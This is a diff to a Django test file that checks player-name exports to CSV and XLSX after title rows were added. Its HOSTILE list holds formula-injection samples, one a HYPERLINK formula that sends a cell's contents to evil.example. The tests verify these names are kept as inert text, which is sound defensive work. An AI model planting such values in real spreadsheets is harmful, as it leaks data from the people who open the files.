@@ -16,6 +16,8 @@ from .conftest import make_session
 
 pytestmark = pytest.mark.django_db
 
+# The players' rows start below the title (the session's name and date, an empty line), the header and the tops.
+FIRST = exports.TITLE_ROWS + 2
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+1+2", "-3+4", "@SUM(1+1)", "\t=1+2", "\r=1+2"]
 
 
@@ -63,20 +65,20 @@ def test_the_csv_file(client, hostile_session, alice):
     client.force_login(alice)
     response = client.get(f"/duplicate/{hostile_session.pk}/export/csv/")
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
-    assert [row[2] for row in rows[1:]] == [neutralised(name) for name in HOSTILE]
-    assert [row[4] for row in rows[1:]] == ["0", "-13", "-14", "-15", "-16", "-17"]  # gaps stay numbers
+    assert [row[2] for row in rows[FIRST:]] == [neutralised(name) for name in HOSTILE]
+    assert [row[7] for row in rows[FIRST:]] == ["0", "-13", "-14", "-15", "-16", "-17"]  # gaps stay numbers
 
 
 def test_the_xlsx_file(client, hostile_session, alice):
     client.force_login(alice)
     response = client.get(f"/duplicate/{hostile_session.pk}/export/xlsx/")
     sheet = load_workbook(io.BytesIO(response.content)).active
-    names = [sheet.cell(row=row, column=3) for row in range(2, 2 + len(HOSTILE))]
+    names = [sheet.cell(row=row, column=3) for row in range(FIRST + 1, FIRST + 1 + len(HOSTILE))]
     assert [cell.data_type for cell in names] == ["s"] * len(HOSTILE)  # text, not "f" (a formula)
     # As typed, without the CSV's apostrophe (trial of issue 12: Excel showed it); XML reads a carriage return back
     # as a line feed.
     assert [cell.value for cell in names] == [name.replace("\r", "\n") for name in HOSTILE]
-    gaps = [sheet.cell(row=row, column=5) for row in range(2, 2 + len(HOSTILE))]
+    gaps = [sheet.cell(row=row, column=8) for row in range(FIRST + 1, FIRST + 1 + len(HOSTILE))]
     assert [(cell.data_type, cell.value) for cell in gaps] == [("n", 0)] + [("n", -gap) for gap in range(13, 18)]
 
 
@@ -93,7 +95,7 @@ def test_the_api_csv_ranking(client, hostile_session, alice):
         f"/api/duplicate/sessions/{hostile_session.pk}/ranking.csv", HTTP_AUTHORIZATION=f"Bearer {token}"
     )
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
-    assert [row[2] for row in rows[1:]] == [neutralised(name) for name in HOSTILE]
+    assert [row[2] for row in rows[FIRST:]] == [neutralised(name) for name in HOSTILE]
 
 
 def test_the_tournament_files(client, hostile_session, alice, lyon):
@@ -104,7 +106,7 @@ def test_the_tournament_files(client, hostile_session, alice, lyon):
     rows = list(csv.reader(io.StringIO(client.get(f"{url}csv").content.decode("utf-8-sig"), newline=""), delimiter=";"))
     # (the tab and the carriage return names are one player there: a tournament matches names stripped)
     names = {neutralised(name) for name in HOSTILE[:5]}
-    assert {row[1] for row in rows[1:]} == names | {"Anne"}
+    assert {row[1] for row in rows[exports.TITLE_ROWS + 1 :]} == names | {"Anne"}
     sheet = load_workbook(io.BytesIO(client.get(f"{url}xlsx").content)).active
     cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
     assert all(cell.data_type == "s" for cell in cells)
@@ -117,11 +119,11 @@ def test_a_large_sessions_file_built_by_the_worker(hostile_session, alice):
     """The worker's file goes through the same cells as the one served at once."""
     content = exports.build(Session.objects.get(pk=hostile_session.pk), "xlsx")
     sheet = load_workbook(io.BytesIO(content)).active
-    assert all(sheet.cell(row=row, column=3).data_type == "s" for row in range(2, 2 + len(HOSTILE)))
+    assert all(sheet.cell(row=row, column=3).data_type == "s" for row in range(FIRST + 1, FIRST + 1 + len(HOSTILE)))
 
 
 def test_a_control_character_xml_cannot_hold_does_not_hide_a_formula(alice, lyon):
     session = make_session(alice, lyon, players=("Anne",))
     session.players.update(name="\x01=1+2")
     sheet = load_workbook(io.BytesIO(exports.build(session, "xlsx"))).active
-    assert (sheet["C2"].data_type, sheet["C2"].value) == ("s", "=1+2")
+    assert (sheet["C6"].data_type, sheet["C6"].value) == ("s", "=1+2")
